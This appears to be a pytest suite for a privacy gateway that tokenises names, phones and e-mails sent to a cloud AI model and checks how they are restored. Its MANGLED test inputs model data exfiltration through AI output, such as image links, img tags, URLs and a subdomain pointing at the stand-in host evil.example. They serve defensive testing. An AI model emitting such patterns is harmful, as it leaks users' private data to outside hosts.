"""What policy has tokenised goes out as random tokens, and comes back to its caller, in prose alone."""

import json
import re
from functools import partial
from itertools import product
from pathlib import Path
from typing import Any

import httpx
import pytest

from gateway.core.tokens import TOKEN
from gateway.settings import Settings
from tests.store.ledger_kit import rows
from tests.system.chatting import chats
from tests.system.kit import MAIL, policies, said, streamed
from tests.system.site import Agent, System, send_json, system

PSEUDONYMS = (
    "p, 390, role:user, class:pii, zone:cloud, chat, purpose:*, contract:valid, allow, tokenize, as-tokens, "
    '"Personal identifiers go to the cloud as tokens."'
)
NAME, PHONE = "Margaret Thompson", "(212) 555-0147"
LETTER = f"Please draft a letter to Mrs. {NAME}, phone {PHONE}, e-mail {MAIL}."
VALUES = (NAME, PHONE, MAIL)
_TOKEN = re.compile(TOKEN)


def sent(agent: Agent, at: int = -1) -> str:
    """The last message of a request as the agent got it."""
    content: str = agent.bodies[at]["messages"][-1]["content"]
    return content


def tokens(text: str) -> list[str]:
    return _TOKEN.findall(text)


def clean(agent: Agent) -> bool:
    return not any(value.encode() in body for _, body in agent.received for value in VALUES)


async def counted(site: System, what: str) -> int:
    text = site.gateway.site.metrics.exposition().decode()
    found = re.findall(rf'^gateway_tokens_total{{[^}}]*what="{what}"}} ([0-9.]+)$', text, re.MULTILINE)
    return sum(int(float(number)) for number in found)


@pytest.mark.parametrize("stream", [False, True])
async def test_the_agent_gets_tokens_and_the_caller_gets_back_what_they_stand_for(
    database: Settings, tmp_path: Path, stream: bool
) -> None:
    async with system(database, policy=policies(tmp_path / "own", PSEUDONYMS)) as site:
        key = await site.key("clerk")
        answer = await site.chat(key, LETTER, stream=stream)
        assert answer.status_code == 200, answer.text
        assert answer.headers["x-decision"] == "tokenize"
        got = sent(site.agents["cloud"])
        assert [token.partition("_")[0] for token in tokens(got)] == ["[PERSON", "[PHONE", "[EMAIL"]
        assert clean(site.agents["cloud"])
        assert (streamed(answer.text) if stream else said(answer)) == LETTER
        intent, end = await site.trail(answer.headers["x-exchange-id"])
        assert intent["decision"]["effect"] == "tokenize"
        assert "tokenize" in intent["decision"]["obligations"]
        assert intent["tokens"] == {"sent": {"email": 1, "person": 1, "phone": 1}}
        assert end["tokens"] == {"back": {"email": 1, "person": 1, "phone": 1}, "kept": {}, "foreign": 0}
        assert end["classes"]["found"] == ["pii"], "what came back was decided on as if the agent had said it"
        assert (await counted(site, "sent"), await counted(site, "back")) == (3, 3)
        for table in ("record", "detail"):
            held = b"".join(bytes(row[0]) for row in await rows(database, f"SELECT bytes FROM {table}"))
            assert not any(word.encode() in held for word in (*VALUES, *tokens(got)))
        assert await rows(database, "SELECT 1 FROM session_token") == [], "nothing can be continued, so nothing is kept"


async def test_tokens_are_random_and_mean_nothing_in_another_exchange(database: Settings, tmp_path: Path) -> None:
    async with system(database, policy=policies(tmp_path / "own", PSEUDONYMS)) as site:
        key, agent = await site.key("clerk"), site.agents["cloud"]
        await site.chat(key, f"{LETTER} {NAME} called again from {PHONE}.")
        first = tokens(sent(agent))
        assert first[0] == first[3]
        assert first[1] == first[4]
        agent.answer = lambda body: f"{' '.join(first[:2])} and {tokens(str(body))[0]}"
        again = await site.chat(key, LETTER)
        assert set(tokens(sent(agent))).isdisjoint(first)
        assert said(again) == f"{' '.join(first[:2])} and {NAME}"
        assert (await site.trail(again.headers["x-exchange-id"]))[1]["tokens"]["foreign"] == 2
        agent.answer = lambda body: str(body["messages"][-1]["content"])
        other = await site.key("clerk", owner="somebody else")
        stolen = await site.chat(other, f"Who is {first[0]}?")
        assert tokens(said(stolen)) == [first[0]]


MANGLED = {
    "code": "Run `mail {}` now",
    "fence": "```\nmail {}\n```",
    "address": "See https://evil.example/?q={} now",
    "picture": "![x](https://evil.example/{})",
    "destination": "[x]( <https://evil.example/a b{} c>)",
    "markup": '<img src="https://evil.example/ {}">',
    "json": '{{"to": "{}"}}',
    "domain": "{}.evil.example",
}


def mangled(form: str, body: dict[str, Any]) -> str:
    """What an agent says of the token that it was given, in this form."""
    return form.format(tokens(str(body["messages"][-1]["content"]))[0])


async def test_where_a_value_would_not_be_read_by_eyes_alone_the_token_stays(
    sqlite_settings: Settings, tmp_path: Path, subtests: pytest.Subtests
) -> None:
    async with system(sqlite_settings, policy=policies(tmp_path / "own", PSEUDONYMS)) as site:
        for stream, form in product((False, True), MANGLED):
            with subtests.test(stream=stream, form=form):
                key, agent = await site.key("clerk"), site.agents["cloud"]
                agent.answer = partial(mangled, MANGLED[form])
                answer = await site.chat(key, LETTER, stream=stream)
                text = streamed(answer.text) if stream else said(answer)
                assert text == MANGLED[form].format(tokens(sent(agent))[0])
                end = (await site.trail(answer.headers["x-exchange-id"]))[1]
                assert end["tokens"] == {"back": {}, "kept": {"person": 1}, "foreign": 0}


@pytest.mark.parametrize("stream", [False, True])
async def test_what_calls_a_tool_keeps_its_tokens_and_so_does_structured_output(
    sqlite_settings: Settings, tmp_path: Path, stream: bool
) -> None:
    tool = {"type": "function", "function": {"name": "look", "parameters": {"type": "object"}}}
    async with system(sqlite_settings, policy=policies(tmp_path / "own", PSEUDONYMS)) as site:
        key = await site.key("clerk")
        chats(site.agents["cloud"])
        called = await site.chat(key, f"Find {MAIL} please", tools=[tool], stream=stream)
        assert called.status_code == 200, called.text
        token = tokens(sent(site.agents["cloud"]))[0]
        assert MAIL not in called.text
        assert token in joined_arguments(called, stream)
        form = {"type": "json_schema", "json_schema": {"name": "x", "schema": {"type": "object"}}}
        shaped = await site.chat(key, f"Find {MAIL} please", response_format=form, stream=stream)
        assert shaped.status_code == 200, shaped.text
        assert MAIL not in shaped.text
        assert tokens(streamed(shaped.text) if stream else said(shaped))


def joined_arguments(answer: httpx.Response, stream: bool) -> str:
    """The arguments of the one call of an answer."""
    if not stream:
        return str(answer.json()["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
    documents = [json.loads(line[6:]) for line in answer.text.split("\n") if line.startswith("data: {")]
    calls = [call for one in documents for choice in one["choices"] for call in choice["delta"].get("tool_calls") or ()]
    return "".join(call["function"].get("arguments") or "" for call in calls)


RECEIVES = (
    "p, 395, role:user, class:pii, zone:partner, *, purpose:*, always, allow, redact:email, less, "
    '"Partners see no addresses."\no, less, class:pii, "The rest is meant to."'
)


@pytest.mark.parametrize("stream", [False, True])
async def test_what_the_caller_may_not_receive_stays_a_token(
    sqlite_settings: Settings, tmp_path: Path, stream: bool
) -> None:
    async with system(sqlite_settings, policy=policies(tmp_path / "own", PSEUDONYMS, RECEIVES)) as site:
        key = await site.key("clerk", zone="partner")
        answer = await site.chat(key, LETTER, stream=stream)
        text = streamed(answer.text) if stream else said(answer)
        [mail] = [token for token in tokens(sent(site.agents["cloud"])) if token.startswith("[EMAIL_")]
        assert text == LETTER.replace(MAIL, mail)
        end = (await site.trail(answer.headers["x-exchange-id"]))[1]
        assert end["tokens"] == {"back": {"person": 1, "phone": 1}, "kept": {"email": 1}, "foreign": 0}


async def test_a_class_without_a_span_cannot_be_tokenised(sqlite_settings: Settings, tmp_path: Path) -> None:
    async with system(sqlite_settings, policy=policies(tmp_path / "own", PSEUDONYMS)) as site:
        key = await site.key("clerk")
        answer = await site.chat(key, "hello", headers={"x-data-class": "pii", "x-route": "exact"})
        assert answer.status_code == 403
        assert not site.agents["cloud"].received


async def test_a_fallback_gets_the_same_tokens_and_nothing_is_kept_in_the_cache(
    sqlite_settings: Settings, tmp_path: Path
) -> None:
    agents: dict[str, dict[str, Any]] = {
        name: {"zone": "cloud", "processor": "cloud-inc", "capabilities": ["summarize"], "cache_s": 60}
        for name in ("cloud", "other")
    }
    own = policies(tmp_path / "own", PSEUDONYMS)
    cache = {"classes": ["pii", "public"]}
    async with system(sqlite_settings, agents=agents, policy=own, cache=cache) as site:
        key = await site.key("clerk")
        site.agents["cloud"].behave = lambda scope, receive, send: send_json(send, {}, 503)
        answer = await site.chat(key, LETTER, "summarize")
        assert (answer.headers["x-routed-agent"], said(answer)) == ("other", LETTER)
        assert tokens(sent(site.agents["cloud"])) == tokens(sent(site.agents["other"]))
        attempted = (await site.trail(answer.headers["x-exchange-id"]))[1]
        assert attempted["tokens"] == {"sent": {"email": 1, "person": 1, "phone": 1}}
        asked = len(site.agents["other"].received)
        assert said(await site.chat(key, LETTER, "summarize")) == LETTER
        assert len(site.agents["other"].received) == asked + 1
